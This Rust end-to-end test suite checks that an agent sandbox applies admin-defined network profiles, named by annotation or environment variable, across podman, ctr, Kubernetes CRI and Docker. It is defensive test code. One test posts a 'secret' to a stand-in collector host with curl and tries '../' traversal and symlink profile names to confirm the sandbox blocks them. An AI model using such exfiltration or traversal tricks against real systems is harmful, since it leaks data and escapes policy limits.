//! Profiles by annotation (docs/policy.md#profiles-by-annotation): one task's policy named by
//! `io.agent.sandbox.profile=NAME` (or `AGENT_SANDBOX_PROFILE=NAME` in its environment, where
//! the engine has no annotations), read from the admin's profiles directory, bounded by the
//! ceiling, the same through podman, ctr, CRI (a kubernetes-sigs/agent-sandbox
//! `SandboxTemplate`'s pod) and Docker.
//!
//! Every entry point gets the same world: a ceiling that allows every port of the tests'
//! registry (the built-in `agent` default refuses it), two servers on that host, and a profile
//! that allows one of their ports. The profile applies when the listed port is served and the
//! other is refused by the proxy; without the annotation the ceiling serves both, and runc,
//! which knows nothing of the annotation, reaches both. The attacks (a name with `../`, a
//! symlink out of the directory, a group-writable file, a profile wider than the ceiling) each
//! fail the create naming the annotation; runc runs the same request unrestricted.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use agent_sandbox_e2e::cri::{self, Cri, Pod, RUNC_HANDLER, container_config, pod_config};
use agent_sandbox_e2e::ctr::{self, Shim};
use agent_sandbox_e2e::docker::{self, Docker};
use agent_sandbox_e2e::harness::{self, Output, TOOLS_IMAGE, User};
use agent_sandbox_e2e::k8s;
use agent_sandbox_e2e::net::{
    self, COLLECTOR_HOST, COLLECTOR_IP, DENIED_HEADER, HttpServer, REGISTRY_HOST, REGISTRY_IP,
};
use agent_sandbox_e2e::podman::{Podman, Runtime, policy_flag};
use anyhow::{Context, bail, ensure};

const ANNOTATION: &str = "io.agent.sandbox.profile";
const ENV: &str = "AGENT_SANDBOX_PROFILE";
/// Where the runtime looks when nothing names another directory (CRI's and Docker's test
/// handlers are fixed in containerd's and dockerd's configuration, so their tests use it).
const DEFAULT_PROFILES_DIR: &str = "/etc/agent-sandbox/profiles";

/// The two servers on the registry's host: the profile lists `listed`'s port only.
struct World {
    listed: HttpServer,
    other: HttpServer,
}

impl World {
    fn start() -> anyhow::Result<Self> {
        net::ensure_test_hosts()?;
        Ok(Self {
            listed: HttpServer::start(REGISTRY_IP, "listed-port-body")?,
            other: HttpServer::start(REGISTRY_IP, "other-port-body")?,
        })
    }

    /// The profile's allow rules: `listed`'s port, by name and address.
    fn profile_rules(&self) -> Vec<String> {
        let port = self.listed.port();
        vec![
            format!("{REGISTRY_HOST}:{port}"),
            format!("{REGISTRY_IP}:{port}"),
        ]
    }

    /// Fetches both servers (through the proxy variables where the sandbox set them).
    fn script(&self) -> String {
        let get = |s: &HttpServer| {
            format!(
                "curl -sS -m 20 -i http://{REGISTRY_HOST}:{}/profile 2>&1; echo",
                s.port()
            )
        };
        format!("{}; {}", get(&self.listed), get(&self.other))
    }

    /// The profile applied: the listed port served, the other refused by the proxy.
    fn expect_profile(&self, out: &Output, what: &str) -> anyhow::Result<()> {
        ensure!(
            out.stdout.contains("listed-port-body"),
            "{what}: the profile's port was not served\n{out}"
        );
        ensure!(
            out.stdout.contains(DENIED_HEADER) && !out.stdout.contains("other-port-body"),
            "{what}: the port outside the profile was not refused\n{out}"
        );
        Ok(())
    }

    /// No profile applied: both served.
    fn expect_both(&self, out: &Output, what: &str) -> anyhow::Result<()> {
        ensure!(
            out.stdout.contains("listed-port-body") && out.stdout.contains("other-port-body"),
            "{what}: both ports should be served\n{out}"
        );
        Ok(())
    }
}

/// The ceiling of the podman and ctr tests: the agent profile allowing every port of the
/// registry (as the CRI and Docker test handlers' ceilings do).
fn ceiling(dir: &Path) -> anyhow::Result<PathBuf> {
    net::write_policy(
        dir,
        &[REGISTRY_HOST.to_owned(), REGISTRY_IP.to_owned()],
        &[],
    )
}

/// `dir/NAME.toml`: the agent profile allowing `allow` only, root's, mode `mode`. Removed on
/// drop.
struct ProfileFile(PathBuf);

impl Drop for ProfileFile {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.0);
    }
}

fn write_profile(
    dir: &Path,
    name: &str,
    allow: &[String],
    mode: u32,
) -> anyhow::Result<ProfileFile> {
    let scratch = tempfile::tempdir()?;
    let text = fs::read_to_string(net::write_policy(scratch.path(), allow, &[])?)?;
    let path = dir.join(format!("{name}.toml"));
    fs::write(&path, text).with_context(|| format!("cannot write {}", path.display()))?;
    fs::set_permissions(&path, fs::Permissions::from_mode(mode))?;
    Ok(ProfileFile(path))
}

/// A profiles directory of the test's own (root's, mode 0755).
fn own_profiles_dir() -> anyhow::Result<tempfile::TempDir> {
    let dir = harness::temp_dir_for(User::Root)?;
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755))?;
    Ok(dir)
}

/// The default profiles directory, made (root's, 0755) if missing.
fn default_profiles_dir() -> anyhow::Result<PathBuf> {
    let dir = PathBuf::from(DEFAULT_PROFILES_DIR);
    if !dir.is_dir() {
        fs::create_dir_all(&dir).with_context(|| format!("cannot create {}", dir.display()))?;
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o755))?;
    }
    Ok(dir)
}

/// A profile name unique to this test process.
fn unique_profile(stem: &str) -> String {
    harness::unique("e2e", stem)
}

/// Fails unless the create failed with an error naming the annotation and the docs, and
/// every `also`.
fn expect_refused(out: &Output, also: &[&str], what: &str) -> anyhow::Result<()> {
    let text = format!("{}\n{}", out.stdout, out.stderr);
    ensure!(!out.success(), "{what}: the container ran\n{out}");
    for needle in [ANNOTATION, "docs/policy.md"].iter().chain(also) {
        ensure!(
            text.contains(needle),
            "{what}: the error lacks {needle:?}\n{out}"
        );
    }
    Ok(())
}

// ---- podman ----

fn podman_sandbox(flags: &[String], run_args: &[&str], script: &str) -> anyhow::Result<Output> {
    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
    let mut all: Vec<&str> = Vec::new();
    for f in flags {
        all.extend(["--runtime-flag", f.as_str()]);
    }
    all.extend(["run", "--rm"]);
    all.extend_from_slice(run_args);
    all.extend([TOOLS_IMAGE, "sh", "-c", script]);
    Podman::new(User::Root, Runtime::AgentSandbox).run(&all)
}

#[test]
fn podman_profile_annotation_applies_the_admins_profile_within_the_ceiling() -> anyhow::Result<()> {
    let w = World::start()?;
    let dir = own_profiles_dir()?;
    let ceiling = ceiling(dir.path())?;
    let name = unique_profile("podman");
    let _profile = write_profile(dir.path(), &name, &w.profile_rules(), 0o644)?;
    let flags = [
        policy_flag(&ceiling),
        format!("profiles-dir={}", dir.path().display()),
    ];
    let annotation = format!("{ANNOTATION}={name}");

    let out = podman_sandbox(&flags, &["--annotation", &annotation], &w.script())?;
    w.expect_profile(&out, "podman --annotation")?;
    // The create-time equivalent for engines without annotations.
    let env = format!("{ENV}={name}");
    let out = podman_sandbox(&flags, &["-e", &env], &w.script())?;
    w.expect_profile(&out, "podman -e")?;
    // Control: the ceiling alone serves both.
    let out = podman_sandbox(&flags, &[], &w.script())?;
    w.expect_both(&out, "podman without the annotation")?;
    // runc ignores the annotation: the same request reaches both.
    let out = Podman::new(User::Root, Runtime::Runc)
        .host_net_sh(&["--annotation", &annotation], &w.script())?;
    w.expect_both(&out, "runc with the annotation")?;
    Ok(())
}

#[test]
fn podman_hostile_profile_requests_fail_naming_the_annotation_where_runc_ignores_them()
-> anyhow::Result<()> {
    let w = World::start()?;
    let collector = HttpServer::start(COLLECTOR_IP, "collected")?;
    // parent/ holds a wide profile beside the profiles directory parent/profiles/: what a
    // `../` name or a symlink would reach.
    let parent = own_profiles_dir()?;
    let dir = parent.path().join("profiles");
    fs::create_dir(&dir)?;
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o755))?;
    let ceiling = ceiling(parent.path())?;
    let collector_rules = vec![
        format!("{COLLECTOR_HOST}:{}", collector.port()),
        format!("{COLLECTOR_IP}:{}", collector.port()),
    ];
    let _outside = write_profile(parent.path(), "outside", &collector_rules, 0o644)?;
    std::os::unix::fs::symlink(parent.path().join("outside.toml"), dir.join("link.toml"))?;
    let _gw = write_profile(&dir, "gw", &w.profile_rules(), 0o664)?;
    let _wide = write_profile(&dir, "wide", &collector_rules, 0o644)?;
    let _good = write_profile(&dir, "good", &w.profile_rules(), 0o644)?;
    let flags = [
        policy_flag(&ceiling),
        format!("profiles-dir={}", dir.display()),
    ];
    let post = format!(
        "curl -sS -m 20 -i --data-binary secret http://{COLLECTOR_HOST}:{}/",
        collector.port()
    );
    for (name, also) in [
        ("../outside", &["profile name"][..]),
        ("link", &["symbolic link"][..]),
        ("gw", &["writable by group or others"][..]),
        ("wide", &["would widen"][..]),
    ] {
        let annotation = format!("{ANNOTATION}={name}");
        let out = podman_sandbox(&flags, &["--annotation", &annotation], &post)?;
        expect_refused(&out, also, name)?;
    }
    // The good profile is wider than the built-in default ceiling: refused there.
    let out = podman_sandbox(
        &[format!("profiles-dir={}", dir.display())],
        &["--annotation", &format!("{ANNOTATION}=good")],
        &w.script(),
    )?;
    expect_refused(&out, &["would widen"], "good under the default ceiling")?;
    let got = collector.received();
    ensure!(got.is_empty(), "the collector received {got:?}");
    // runc runs the same hostile request and delivers.
    let out = Podman::new(User::Root, Runtime::Runc).host_net_sh(
        &["--annotation", &format!("{ANNOTATION}=../outside")],
        &post,
    )?;
    ensure!(
        out.success() && !collector.received().is_empty(),
        "runc baseline did not reach the collector\n{out}"
    );
    Ok(())
}

// ---- ctr ----

/// A `--runtime-config-path` file naming the ceiling and the profiles directory.
fn shim_config(dir: &Path, policy: &Path, profiles: &Path) -> anyhow::Result<PathBuf> {
    let path = dir.join("runtime-config.toml");
    fs::write(
        &path,
        format!(
            "Policy = {:?}\nProfilesDir = {:?}\n",
            policy.display().to_string(),
            profiles.display().to_string()
        ),
    )?;
    Ok(path)
}

#[test]
fn ctr_profile_annotation_applies_the_admins_profile_within_the_ceiling() -> anyhow::Result<()> {
    ctr::require_containerd()?;
    let w = World::start()?;
    let dir = own_profiles_dir()?;
    let profiles = dir.path().join("profiles");
    fs::create_dir(&profiles)?;
    fs::set_permissions(&profiles, fs::Permissions::from_mode(0o755))?;
    let ceiling = ceiling(dir.path())?;
    let config = shim_config(dir.path(), &ceiling, &profiles)?;
    let config = config.display().to_string();
    let name = unique_profile("ctr");
    let _profile = write_profile(&profiles, &name, &w.profile_rules(), 0o644)?;
    let annotation = format!("{ANNOTATION}={name}");
    let script = w.script();
    let run = |extra: &[&str], stem: &str| {
        let mut args = vec!["--runtime-config-path", config.as_str()];
        args.extend_from_slice(extra);
        ctr::run_rm(
            Shim::AgentSandbox,
            &args,
            TOOLS_IMAGE,
            &ctr::unique_id(stem),
            &["sh", "-c", &script],
        )
    };
    w.expect_profile(
        &run(&["--annotation", &annotation], "profile")?,
        "ctr --annotation",
    )?;
    w.expect_both(&run(&[], "ceiling")?, "ctr without the annotation")?;
    // A symlink to the outside is refused, naming the annotation.
    std::os::unix::fs::symlink(&ceiling, profiles.join("link.toml"))?;
    let out = run(&["--annotation", &format!("{ANNOTATION}=link")], "link")?;
    expect_refused(&out, &["symbolic link"], "ctr link")?;
    // runc v2 ignores the annotation.
    let out = ctr::run_rm(
        Shim::RuncV2,
        &["--net-host", "--annotation", &annotation],
        TOOLS_IMAGE,
        &ctr::unique_id("profile-runc"),
        &["sh", "-c", &script],
    )?;
    w.expect_both(&out, "runc v2 with the annotation")?;
    Ok(())
}

// ---- CRI: the SandboxTemplate of docs/kubernetes.md ----

/// The pod template of `e2e/k8s/sandbox-template.yaml` (shown in docs/kubernetes.md).
fn template() -> anyhow::Result<k8s::PodTemplate> {
    let path = k8s::sandbox_template_path();
    let text =
        fs::read_to_string(&path).with_context(|| format!("cannot read {}", path.display()))?;
    k8s::pod_template(&text)
}

/// The template's container with the tests' tools image in place of the example image.
fn template_container(t: &k8s::PodTemplate) -> anyhow::Result<k8s_cri::v1::ContainerConfig> {
    let (name, _, command) = t
        .containers
        .first()
        .context("the template has no container")?;
    let command: Vec<&str> = command.iter().map(String::as_str).collect();
    Ok(container_config(name, TOOLS_IMAGE, &command, &[]))
}

#[test]
fn cri_sandbox_template_pod_gets_the_admins_profile() -> anyhow::Result<()> {
    let t = template()?;
    ensure!(t.runtime_class_name == "agent-sandbox", "{t:?}");
    let name = t
        .annotations
        .iter()
        .find(|(k, _)| k == ANNOTATION)
        .map(|(_, v)| v.clone())
        .context("the template names no profile")?;
    let annotations: Vec<(&str, &str)> = t
        .annotations
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let w = World::start()?;
    let dir = default_profiles_dir()?;
    let _profile = write_profile(&dir, &name, &w.profile_rules(), 0o644)?;
    let cri = Cri::connect()?;
    cri.require_image(TOOLS_IMAGE)?;
    // The RuntimeClass `agent-sandbox` maps to the node's handler; here the test handler,
    // whose ceiling allows the tests' registry (the built-in ceiling would refuse the profile).
    let handler = cri::e2e_handler()?;
    let container = template_container(&t)?;
    let exec = |pod: &Pod| -> anyhow::Result<Output> {
        let id = pod.start(&container)?;
        Ok(cri.exec_sync(&id, &["sh", "-c", &w.script()], 60)?.output())
    };

    let pod = Pod::run(&cri, pod_config("template", &annotations), &handler)?;
    w.expect_profile(&exec(&pod)?, "the template's pod")?;
    pod.remove()?;

    let without: Vec<(&str, &str)> = annotations
        .iter()
        .copied()
        .filter(|(k, _)| *k != ANNOTATION)
        .collect();
    let pod = Pod::run(&cri, pod_config("template-ceiling", &without), &handler)?;
    w.expect_both(&exec(&pod)?, "the template's pod without the profile")?;
    pod.remove()?;

    // The runc handler ignores the annotations; its pods have no route off their link-local
    // network, so the baseline shares the node's (kubelet's hostNetwork).
    let mut config = pod_config("template-runc", &annotations);
    cri::host_network(&mut config);
    let pod = Pod::run(&cri, config, RUNC_HANDLER)?;
    w.expect_both(&exec(&pod)?, "the template's pod under runc")?;
    pod.remove()?;
    Ok(())
}

#[test]
fn cri_profile_wider_than_the_ceiling_fails_the_pod_naming_the_annotation() -> anyhow::Result<()> {
    let t = template()?;
    let dir = default_profiles_dir()?;
    let name = unique_profile("cri-wide");
    let _profile = write_profile(&dir, &name, &[format!("{COLLECTOR_HOST}:443")], 0o644)?;
    let cri = Cri::connect()?;
    cri.require_image(TOOLS_IMAGE)?;
    let annotations = [(ANNOTATION, name.as_str())];
    let err = match Pod::run(&cri, pod_config("wide", &annotations), &cri::e2e_handler()?) {
        Err(e) => e,
        Ok(pod) => match pod.start(&template_container(&t)?) {
            Err(e) => e,
            Ok(id) => bail!("the pod with a profile wider than the ceiling started {id}"),
        },
    };
    let text = format!("{err:#}");
    for needle in [ANNOTATION, "would widen", "docs/policy.md"] {
        ensure!(text.contains(needle), "CRI error lacks {needle:?}: {text}");
    }
    Ok(())
}

// ---- Docker ----

#[test]
fn docker_profile_from_the_environment_applies_the_admins_profile() -> anyhow::Result<()> {
    docker::require_ready(TOOLS_IMAGE)?;
    let w = World::start()?;
    let dir = default_profiles_dir()?;
    let name = unique_profile("docker");
    let _profile = write_profile(&dir, &name, &w.profile_rules(), 0o644)?;
    let env = format!("{ENV}={name}");
    let script = w.script();
    // dockerd 20.10 has no `docker run --annotation`; the environment names the profile.
    let e2e = Docker::new(docker::Runtime::AgentSandboxE2e);
    let out = e2e.run(&["--rm", "-e", &env, TOOLS_IMAGE, "sh", "-c", &script])?;
    w.expect_profile(&out, "docker -e")?;
    let out = e2e.run(&["--rm", TOOLS_IMAGE, "sh", "-c", &script])?;
    w.expect_both(&out, "docker without the profile")?;
    let out = Docker::new(docker::Runtime::Runc).run(&[
        "--rm",
        "--network",
        "host",
        "-e",
        &env,
        TOOLS_IMAGE,
        "sh",
        "-c",
        &script,
    ])?;
    w.expect_both(&out, "docker runc with the profile variable")?;
    Ok(())
}
